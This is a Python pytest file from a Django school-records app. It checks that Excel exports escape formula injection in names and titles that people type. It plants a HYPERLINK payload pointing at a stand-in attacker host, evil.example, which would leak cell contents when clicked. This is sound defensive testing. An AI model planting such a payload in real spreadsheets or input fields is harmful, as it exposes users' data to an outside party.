"""Formula injection in Excel EXPORTS: names typed by people (staff, students, titles) must
never become live formulas in a workbook HoSo produces. Every export must write its values
through `hoso.core.xlsx.safe_cell` / `safe_row`.

Needs the demo province: every export of TH1 (its staff, its classes) is read as the demo's
principal, with the demo's names typed by people in it."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.urls import NoReverseMatch, reverse
from openpyxl import load_workbook

from hoso.org.models import Staff, Student, Unit, UnitKind

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _poison() -> None:
    """Every name a school can type becomes a formula."""
    th1 = Unit.objects.get(code="TH1")
    get_user_model().objects.filter(username__startswith="th1.").update(first_name=FORMULA)
    Staff.objects.filter(unit__school=th1).update(full_name=FORMULA)
    Student.objects.filter(school=th1).update(full_name=FORMULA)


def _formula_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or text.startswith(("=", "+", "-", "@")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def _download(client: Any, name: str, query: str = "", **kwargs: Any) -> bytes:
    try:
        url = reverse(name, kwargs=kwargs or None)
    except NoReverseMatch:
        pytest.skip(f"{name} is not installed")
    response = client.get(f"{url}?{query}" if query else url)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Disposition"].startswith("attachment")
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_completion_export_neutralises_formulas(client_for: Any):
    _poison()
    th1 = Unit.objects.get(code="TH1")
    data = _download(client_for("th1.hieutruong"), "records:completion-export", f"unit={th1.pk}")
    assert _formula_cells(data) == []


def test_gradebook_summary_export_neutralises_formulas(client_for: Any):
    _poison()
    school_class = Unit.objects.filter(school__code="TH1", kind=UnitKind.LOP).order_by("pk")[0]
    data = _download(client_for("th1.hieutruong"), "grading:summary-xlsx", pk=school_class.pk)
    assert _formula_cells(data) == []


def test_evidence_export_neutralises_formulas(client_for: Any):
    from hoso.records.models import EvidenceTag, Record

    _poison()
    th1 = Unit.objects.get(code="TH1")
    Record.objects.filter(school=th1).update(title=FORMULA)
    assert EvidenceTag.objects.filter(school=th1).exists()  # the demo tagged some of th1's
    data = _download(client_for("th1.hieutruong"), "records:evidence-xlsx", pk=th1.pk)
    assert _formula_cells(data) == []
